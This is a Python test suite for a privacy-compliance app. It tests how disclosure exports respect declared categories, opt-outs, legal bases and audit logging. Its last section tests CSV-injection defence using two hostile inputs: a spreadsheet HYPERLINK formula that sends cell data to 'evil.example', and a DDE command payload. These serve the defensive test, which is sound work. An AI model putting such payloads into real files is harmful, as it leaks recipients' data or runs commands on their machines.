"""The disclosure log (P12, P14, P16): files for declared recipients hold only their declared
categories, skip who opted out or may not be used, and log each person; anything else leaves
only on a legal basis with its document."""

import csv
import io

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.management import CommandError, call_command

from pledge.cases.disclosures import disclosure_record, share_export
from pledge.cases.models import Disclosure
from pledge.inventory.services import policy_publish
from pledge.people.models import ConsentMethod, OptOutChannel, OptOutKind, Organization
from pledge.people.optouts import opt_out_set
from pledge.people.services import consent_record
from pledge.people.tests.factories import demo_requester
from pledge.vault.actors import Actor
from pledge.vault.models import AuditEntry

# Every share here has a current impact assessment (PIPL Art. 55; pledge/conftest.py).
pytestmark = [
    pytest.mark.django_db,
    pytest.mark.usefixtures("english", "impact_assessments"),
    pytest.mark.clock,
]


@pytest.fixture
def people():
    version = policy_publish(summary={"en": "v1"}, material=True, published_by="test")
    acme = Organization.objects.create(name="Acme Robots", domain="acme-robots.cn")

    def person(tag, **fields):
        return demo_requester(
            tag,
            organization=acme,
            policy_version=version.number,
            name=f"{tag.title()} Han",
            phone="+86 138 0013 8000",
            **fields,
        )

    return {
        "ada": person("ada"),
        "bo": person("bo"),
        "quiet": person("quiet", do_not_contact=True),
    }


def rows(share) -> list[dict]:
    return list(csv.DictReader(io.StringIO(share.csv())))


def share_consent(*people):
    """The separate consent to disclosure to the affiliate (PIPL Art. 23), as a form records it."""
    for person in people:
        consent_record(
            person=person,
            subject="share:group",
            granted=True,
            text="I agree that Gonex may give my details to its affiliates.",
            language="en",
            method=ConsentMethod.FORM,
            actor=Actor.system("test"),
            policy_version=person.policy_version,
        )


def test_a_processor_file_holds_only_its_declared_categories_and_logs_each_person_p12(
    people, privacy_officer
):
    share = share_export(key="list_purchase", actor=Actor.staff(privacy_officer))
    assert share.columns == ["name", "email", "organisation"]  # no phone: not declared
    exported = rows(share)
    assert {row["email"] for row in exported} == {"ada@acme-robots.cn", "bo@acme-robots.cn"}
    assert "+86" not in share.csv()
    logged = Disclosure.objects.filter(recipient="list_purchase")
    assert {d.person.email for d in logged} == {"ada@acme-robots.cn", "bo@acme-robots.cn"}
    assert len({d.batch for d in logged}) == 1
    assert all(
        d.categories == ["user.name", "user.contact.email", "user.workplace"] for d in logged
    )
    entry = AuditEntry.objects.get(action="disclosure.shared")
    assert entry.details["people"] == 2 and entry.actor_label == "staff:pat"


def test_whoever_may_not_be_contacted_for_sales_is_left_out_p01(people, privacy_officer):
    share = share_export(key="lead_generation", actor=Actor.staff(privacy_officer))
    assert "quiet@acme-robots.cn" not in share.csv()
    assert share.not_allowed == 1
    assert not Disclosure.objects.filter(person=people["quiet"]).exists()


def test_an_affiliate_file_leaves_out_who_opted_out_of_affiliate_sharing_p14(
    people, privacy_officer
):
    share_consent(people["ada"], people["bo"])
    opt_out_set(
        kind=OptOutKind.AFFILIATE_SHARING,
        actor=Actor.system("test"),
        channel=OptOutChannel.PORTAL,
        person=people["bo"],
    )
    share = share_export(key="group", actor=Actor.staff(privacy_officer))
    emails = {row["email"] for row in rows(share)}
    assert "bo@acme-robots.cn" not in emails and "ada@acme-robots.cn" in emails
    assert share.opted_out == 1
    assert not Disclosure.objects.filter(person=people["bo"]).exists()


def test_a_whole_organization_opting_out_empties_the_affiliate_file_p14(people, privacy_officer):
    share_consent(people["ada"], people["bo"])
    opt_out_set(
        kind=OptOutKind.AFFILIATE_SHARING,
        actor=Actor.system("test"),
        channel=OptOutChannel.EMAIL,
        organization=people["ada"].organization,
    )
    assert rows(share_export(key="group", actor=Actor.staff(privacy_officer))) == []


def test_an_undeclared_recipient_is_refused_naming_the_declared_ones(people, privacy_officer):
    with pytest.raises(ValidationError, match="list_purchase"):
        share_export(key="data_broker", actor=Actor.staff(privacy_officer))
    assert not Disclosure.objects.exists()


def test_only_the_privacy_officer_shares_or_records(people, sales_expert, marketer):
    for actor in (sales_expert, marketer):
        with pytest.raises(PermissionDenied):
            share_export(key="list_purchase", actor=actor)
        with pytest.raises(PermissionDenied):
            disclosure_record(
                person=people["ada"],
                recipient_name="A court",
                basis="court_order",
                categories=["user.name"],
                reference="Order 1",
                actor=actor,
            )
    assert not Disclosure.objects.exists()


@pytest.mark.parametrize(
    ("basis", "reference", "categories", "why"),
    [
        ("sale", "Invoice 7", ["user.name"], "legal basis"),
        ("processor", "DPA", ["user.name"], "legal basis"),
        ("court_order", "  ", ["user.name"], "order or request"),
        ("court_order", "Order 1", [], "categories"),
        ("court_order", "Order 1", ["user.soul"], "categories"),
    ],
)
def test_a_disclosure_outside_the_declared_recipients_needs_a_legal_basis_and_document_p16(
    people, privacy_officer, basis, reference, categories, why
):
    with pytest.raises(ValidationError, match=why):
        disclosure_record(
            person=people["ada"],
            recipient_name="Shenzhen police",
            basis=basis,
            categories=categories,
            reference=reference,
            actor=Actor.staff(privacy_officer),
        )
    assert not Disclosure.objects.exists()


def test_a_legal_disclosure_is_logged_and_audited_without_its_values(people, privacy_officer):
    disclosure = disclosure_record(
        person=people["ada"],
        recipient_name="Shenzhen Intermediate People's Court",
        basis="court_order",
        categories=["user.contact.email", "user.name"],
        reference="(2026) Yue 03 No. 17",
        actor=Actor.staff(privacy_officer),
    )
    assert disclosure.categories == ["user.contact.email", "user.name"]
    entry = AuditEntry.objects.get(action="disclosure.recorded")
    assert entry.details == {
        "basis": "court_order",
        "categories": ["user.contact.email", "user.name"],
    }


def test_the_console_gives_the_officer_the_file_and_refuses_sales(
    people, privacy_officer, sales_expert, client_for
):
    officer = client_for(privacy_officer)
    page = officer.get("/en/console/disclosures/")
    assert page.status_code == 200 and "Customer list suppliers" in page.text
    response = officer.post(
        "/en/console/disclosures/", {"action": "share", "recipient": "list_purchase"}
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.content.decode().splitlines()[0] == "name,email,organisation"
    log = officer.get("/en/console/disclosures/").text.split("The disclosure log")[1]
    assert log.count("Customer list suppliers") == 2  # one row per person in the file
    assert client_for(sales_expert).get("/en/console/disclosures/").status_code == 403


def test_the_console_records_a_legal_disclosure_and_explains_a_refusal(
    people, privacy_officer, client_for
):
    officer = client_for(privacy_officer)
    form = {
        "action": "record",
        "email": " ADA@acme-robots.cn ",
        "recipient_name": "Shenzhen police",
        "basis": "law",
        "categories": ["user.name"],
        "reference": "Notice 2026-5",
    }
    assert officer.post("/en/console/disclosures/", form).status_code == 302
    assert Disclosure.objects.get().person == people["ada"]
    refused = officer.post("/en/console/disclosures/", {**form, "email": "nobody@nowhere.cn"})
    assert refused.status_code == 400 and "No one is held under this address" in refused.text
    unknown = officer.post(
        "/en/console/disclosures/", {"action": "share", "recipient": "data_broker"}
    )
    assert unknown.status_code == 400 and "No processor or affiliate" in unknown.text
    assert Disclosure.objects.count() == 1


def test_pledge_share_writes_the_file_and_names_a_wrong_recipient(people, tmp_path, capsys):
    output = tmp_path / "list.csv"
    call_command("share", "list_purchase", output=str(output))
    assert output.read_text(encoding="utf-8").splitlines()[0] == "name,email,organisation"
    assert "2 people" in capsys.readouterr().err
    assert Disclosure.objects.filter(actor_label="system:share").count() == 2
    with pytest.raises(CommandError, match="Declared: "):
        call_command("share", "data_broker")


def test_the_disclosures_page_reads_in_chinese(people, privacy_officer, client_for):
    page = client_for(privacy_officer).get("/console/disclosures/")
    assert "对外提供日志" in page.text and "客户名单供应商" in page.text


# --- The file opens as data in a spreadsheet (OWASP CSV Injection) ---------------------------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A2,"x")'


def test_a_formula_name_reaches_the_recipient_as_text_and_phones_stay_whole(
    people, privacy_officer
):
    """A name a spreadsheet would run starts with a quote in the share file, whichever way the
    file is made; a real phone number keeps its +, a formula in the phone column does not."""
    ada = people["ada"]
    for tag, phone in (("eve", "+86 139 0000 0000"), ("mallory", "+1+cmd|' /C calc'!A0")):
        demo_requester(
            tag,
            organization=ada.organization,
            policy_version=ada.policy_version,
            name=FORMULA_NAME,
            phone=phone,
        )
    share = share_export(key="lead_generation", actor=Actor.staff(privacy_officer))
    by_email = {row["email"]: row for row in rows(share)}
    assert by_email["eve@acme-robots.cn"]["name"] == "'" + FORMULA_NAME
    assert by_email["eve@acme-robots.cn"]["phone"] == "+86 139 0000 0000"
    assert by_email["ada@acme-robots.cn"]["phone"] == "+86 138 0013 8000"
    assert by_email["mallory@acme-robots.cn"]["phone"] == "'+1+cmd|' /C calc'!A0"
    assert not any(line.startswith("=") for line in share.csv().splitlines())


def test_the_console_and_the_command_hand_out_the_neutralised_file(
    people, privacy_officer, client_for, tmp_path
):
    ada = people["ada"]
    demo_requester(
        "eve", organization=ada.organization, policy_version=ada.policy_version, name=FORMULA_NAME
    )
    response = client_for(privacy_officer).post(
        "/en/console/disclosures/", {"action": "share", "recipient": "list_purchase"}
    )
    downloaded = list(csv.DictReader(io.StringIO(response.content.decode())))
    output = tmp_path / "list.csv"
    call_command("share", "list_purchase", output=str(output))
    written = list(csv.DictReader(io.StringIO(output.read_text(encoding="utf-8"))))
    for file in (downloaded, written):
        eve = next(row for row in file if row["email"] == "eve@acme-robots.cn")
        assert eve["name"] == "'" + FORMULA_NAME
